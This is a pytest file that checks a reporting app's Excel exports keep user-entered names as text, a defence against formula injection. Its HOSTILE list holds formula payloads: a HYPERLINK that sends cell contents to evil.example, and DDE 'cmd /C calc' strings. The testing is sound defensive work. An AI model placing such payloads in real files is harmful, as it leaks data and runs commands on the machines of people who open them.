"""Every workbook the app writes keeps text from a person as text, never a formula (OWASP
"CSV/formula injection"): a project, owner, unit or leader name beginning with =, +, -, @, a tab,
a carriage return or the full-width ＝＋－＠ comes out as a string cell with Excel's quote prefix,
its value exactly as typed. Each file is written for real and opened back with openpyxl."""

import io

import pytest
from openpyxl import load_workbook

from reports import periods
from reports.render import xlsx_bytes
from reports.services import snapshot_build
from tests.factories import LeaderFactory, ProjectFactory, UnitFactory
from tests.reports.helpers import small_district
from workbooks.export import export_register
from workbooks.template import blank_template
from workbooks.weekly import weekly_sheet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "#N/A",
]


def _same(text: str) -> str:
    # XML turns a carriage return into a line feed on the way back; both are hostile.
    return text.replace("\r", "\n")


def hostile_cells(workbook, texts) -> list:
    """Every cell of every sheet whose value holds one of the hostile texts."""
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and any(_same(h) in _same(cell.value) for h in texts)
    ]


def assert_all_text(workbook, expected: set[str]) -> None:
    cells = hostile_cells(workbook, set(HOSTILE) | expected)
    found = {_same(cell.value) for cell in cells}
    assert {_same(e) for e in expected} <= found, expected
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
        if _same(cell.value) in {_same(h) for h in set(HOSTILE) | expected}:
            assert cell.quotePrefix, (cell.coordinate, cell.value)


@pytest.fixture
def hostile_register(campaign):
    """Projects whose name, owner, unit, leader, location and goal each begin hostile."""
    made = []
    for n, text in enumerate(HOSTILE):
        made.append(
            ProjectFactory(
                campaign=campaign,
                code=f"HT{n:03d}",
                name=text,
                owner=text,
                location=text,
                annual_goal=text,
                remarks=text,
                unit=UnitFactory(
                    region=campaign.region, name=f"{text}单位"[:100] if n % 2 else text
                ),
                leader=LeaderFactory(region=campaign.region, name=text[:50]),
            )
        )
    return made


def test_the_register_export_writes_hostile_names_as_text(hostile_register):
    stream = io.BytesIO()
    export_register(hostile_register[0].campaign, stream)
    workbook = load_workbook(io.BytesIO(stream.getvalue()))

    assert_all_text(workbook, set(HOSTILE))
    sheet = workbook["项目清单"]
    assert sheet["B2"].value == HOSTILE[0]  # exactly as typed, no apostrophe added
    # Nothing in the file is a formula at all.
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_weekly_sheet_writes_hostile_names_as_text(hostile_register, campaign):
    from accounts.choices import Role
    from tests.factories import UserFactory

    project = hostile_register[0]
    reporter = UserFactory(role=Role.REPORTER, region=campaign.region, unit=project.unit)
    week = __import__("datetime").date(2026, 11, 16)

    workbook = load_workbook(io.BytesIO(weekly_sheet(user=reporter, week=week)))

    assert_all_text(workbook, {HOSTILE[0]})


def test_the_bulletin_workbooks_write_hostile_names_as_text(campaign):
    unit = UnitFactory(region=campaign.region, name="=1+1单位")
    leader = LeaderFactory(region=campaign.region, name="@领导")
    projects = small_district(campaign, unit, leader)
    for project, text in zip(projects, HOSTILE, strict=False):
        project.name = text
        project.save()
    for kind, label in (("weekly", "2026-W47"), ("monthly", "2026-11"), ("annual", "2026")):
        snapshot = snapshot_build(campaign, periods.parse(kind, label))
        workbook = load_workbook(io.BytesIO(xlsx_bytes(snapshot)))
        expected = {text for text in HOSTILE[: len(projects)]}
        if kind != "weekly":
            expected |= {"=1+1单位", "@领导"}
        assert_all_text(workbook, expected)


def test_the_blank_template_has_no_formula_cell():
    workbook = load_workbook(io.BytesIO(blank_template(2026)))
    assert not [
        c
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
